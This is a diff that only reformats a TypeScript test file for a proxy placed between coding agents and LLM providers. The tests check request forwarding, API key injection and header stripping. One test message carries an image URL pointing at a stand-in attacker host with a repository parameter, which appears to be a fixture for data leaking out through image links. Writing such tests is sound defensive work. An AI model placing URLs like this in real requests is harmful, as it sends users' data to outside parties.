@@ -5,7 +5,11 @@ import OpenAI from "openai";
 import { ensureRun } from "../../core/db/runs.ts";
 import { newRunId } from "../../core/ids.ts";
 import { mintRunToken } from "../../runner/proxy/run-token.ts";
-import { claudeCodeBody, claudeCodeHeaders, claudeCodeQuery } from "../fixtures/agent-requests/claude-code-request.ts";
+import {
+  claudeCodeBody,
+  claudeCodeHeaders,
+  claudeCodeQuery,
+} from "../fixtures/agent-requests/claude-code-request.ts";
 import { codexBody, codexHeaders } from "../fixtures/agent-requests/codex-request.ts";
 import { testDatabaseKinds } from "../helpers/test-databases.ts";
 import { startProxyHarness, testTokenSecret, type ProxyHarness } from "./proxy-harness.ts";
@@ -209,7 +213,9 @@ for (const kind of testDatabaseKinds()) {
               messages: [
                 {
                   role: "user",
-                  content: [{ type: "image", source: { type: "url", url: "https://attacker.example/?repo=x" } }],
+                  content: [
+                    { type: "image", source: { type: "url", url: "https://attacker.example/?repo=x" } },
+                  ],
                 },
               ],
             }),
@@ -272,7 +278,8 @@ for (const kind of testDatabaseKinds()) {
       const sent = h.upstream.requests.at(-1)!;
       assert.equal(sent.rawBody, text, "the body reaches the provider unchanged");
       assert.equal(sent.query, claudeCodeQuery);
-      for (const [name, value] of Object.entries(claudeCodeHeaders)) assert.equal(sent.headers[name], value, name);
+      for (const [name, value] of Object.entries(claudeCodeHeaders))
+        assert.equal(sent.headers[name], value, name);
       assert.equal(sent.headers["x-api-key"], "sk-ant-test-upstream-key");
       for (const header of ["openai-organization", "openai-project", "anthropic-organization-id"]) {
         assert.equal(response.headers.get(header), null, `${header} does not come back to the agent`);
